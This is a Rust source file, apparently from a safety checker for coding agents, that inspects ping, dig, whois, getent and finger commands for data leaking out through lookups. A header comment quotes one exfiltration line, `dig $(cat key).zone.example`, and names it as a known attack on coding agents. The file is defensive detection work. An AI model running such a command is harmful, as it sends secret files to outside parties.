//! `ping`, `dig`, `whois` and others: they reach another machine, and the names that they ask for reach those who answer.
//!
//! A name of a zone goes to whoever keeps that zone, so what is put in front of it is sent out: `dig $(cat key).zone.example`
//! (known of coding agents: CVE-2025-55284).

use super::Site;
use crate::{
    judge::Run,
    model::{Effect, Verdict},
    word::{COMPUTED, OUTSIDE, Word},
};

/// A part of a name that is longer than people give to machines.
const LONG: usize = 24;

pub(super) fn lookup(run: &mut Run<'_>, site: &mut Site<'_>) {
    let name = site.call.name;
    let words = site.call.words;
    let local = match name {
        "getent" => !words
            .iter()
            .any(|word| word.text.starts_with("ahosts") || matches!(word.text.as_str(), "hosts" | "networks")),
        "finger" => !words.iter().any(|word| word.text.contains(['@', COMPUTED])),
        _ => false,
    };
    let operand = words.iter().find(|word| !word.text.starts_with(['-', '+'])).map(Word::shown);
    run.effect(if local { Effect::Read } else { Effect::Network }, name, operand);
    if local {
        return;
    }
    let chosen = match name {
        "finger" => true,
        "whois" => has(words, &["-h", "-p", "--host", "--port"]),
        "ping" | "ping6" => has(words, &["-p", "-f"]),
        _ => has(words, &["-f", "-F"]),
    };
    if chosen {
        run.note(Verdict::Ask, || format!("{name}: sends a text of choice, much at once, or names from a file"));
    }
    let asks = words.iter().any(|word| word.text.starts_with('@'));
    for word in words {
        if word.computed() || (word.text.contains(OUTSIDE) && !plain(&word.text, asks)) {
            run.note(Verdict::Ask, || {
                format!("{name}: sends out what is only known when the line runs ({})", word.shown())
            });
        } else if word.text.split(['.', '@', '/', ':']).any(|part| part.len() >= LONG) {
            run.note(Verdict::Ask, || format!("{name}: sends out more than a name ({})", word.shown()));
        }
    }
}

/// Whether one of these letters, or long options, is there; letters may stand together.
fn has(words: &[Word], flags: &[&str]) -> bool {
    words.iter().any(|word| {
        let text = word.text.as_str();
        flags.iter().any(|flag| {
            text == *flag
                || (flag.starts_with("--") && text.starts_with(flag))
                || (!flag.starts_with("--")
                    && text.starts_with('-')
                    && !text.starts_with("--")
                    && text.contains(&flag[1..]))
        })
    })
}

/// A variable that is the whole name, or a number in an address; not where a server of choice is told.
fn plain(text: &str, asks: bool) -> bool {
    let rest = text.replace(OUTSIDE, "");
    !asks && rest.bytes().all(|byte| byte.is_ascii_digit() || byte == b'.')
}
